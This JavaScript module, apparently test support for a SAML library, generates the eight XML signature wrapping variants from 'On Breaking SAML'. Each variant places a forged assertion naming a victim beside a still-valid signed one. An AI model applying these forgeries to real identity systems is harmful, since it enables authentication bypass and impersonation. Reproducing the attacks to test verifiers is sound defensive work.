// Creates XML signature wrapping attacks, the eight variants of "On Breaking SAML" (Somorovsky et al., 2012): a signed part stays
// where its signature finds it, and a forged one is placed where a careless parser reads.
import { SIGNER, VICTIM } from './message.mjs';

const SIGNATURE = /<ds:Signature [\s\S]*?<\/ds:Signature>/g;

/** The parts of a signed response, as text. */
function partsOf(xml) {
  const assertion = /<saml:Assertion [\s\S]*<\/saml:Assertion>/.exec(xml)[0];
  const around = xml.replace(assertion, '');
  return {
    assertion,
    assertionSignature: assertion.match(SIGNATURE)?.[0] ?? '',
    responseSignature: around.match(SIGNATURE)?.[0] ?? '',
  };
}

/** An assertion for the forger's target, with another id. */
function forged(xml) {
  return xml
    .replaceAll(SIGNATURE, '')
    .replaceAll(SIGNER, VICTIM)
    .replaceAll(/ID="(_response|_assertion)"/g, 'ID="$1-forged"');
}

function inObject(signature, hidden) {
  return signature.replace('</ds:Signature>', `<ds:Object>${hidden}</ds:Object></ds:Signature>`);
}

/** @returns the eight variants, by number, of a signed response */
export function wrapped(xml) {
  const { assertion, assertionSignature, responseSignature } = partsOf(xml);
  const bareResponse = xml.replace(responseSignature, '');
  const bareAssertion = assertion.replace(assertionSignature, '');
  const evil = forged(assertion);
  const evilSigned = evil.replace('<saml:Subject>', `${assertionSignature}<saml:Subject>`);
  const afterIssuer = (response, what) => response.replace('</saml:Issuer>', `</saml:Issuer>${what}`);
  return {
    1: afterIssuer(forged(xml), inObject(responseSignature || assertionSignature, bareResponse)),
    2: afterIssuer(forged(xml), `${bareResponse}${responseSignature || assertionSignature}`),
    3: xml.replace(assertion, `${evil}${assertion}`),
    4: xml.replace(assertion, evil.replace('</saml:Assertion>', `${assertion}</saml:Assertion>`)),
    5: xml.replace(
      assertion,
      `${assertion.replaceAll(SIGNER, VICTIM).replace('"_assertion"', '"_forged"')}${bareAssertion}`,
    ),
    6: xml.replace(
      assertion,
      evil.replace(
        '<saml:Subject>',
        `${assertionSignature.replace('</ds:Signature>', `${bareAssertion}</ds:Signature>`)}<saml:Subject>`,
      ),
    ),
    7: xml
      .replace(assertion, evilSigned)
      .replace('<samlp:Status>', `<samlp:Extensions>${bareAssertion}</samlp:Extensions><samlp:Status>`),
    8: xml.replace(
      assertion,
      evil.replace('<saml:Subject>', `${inObject(assertionSignature, bareAssertion)}<saml:Subject>`),
    ),
  };
}
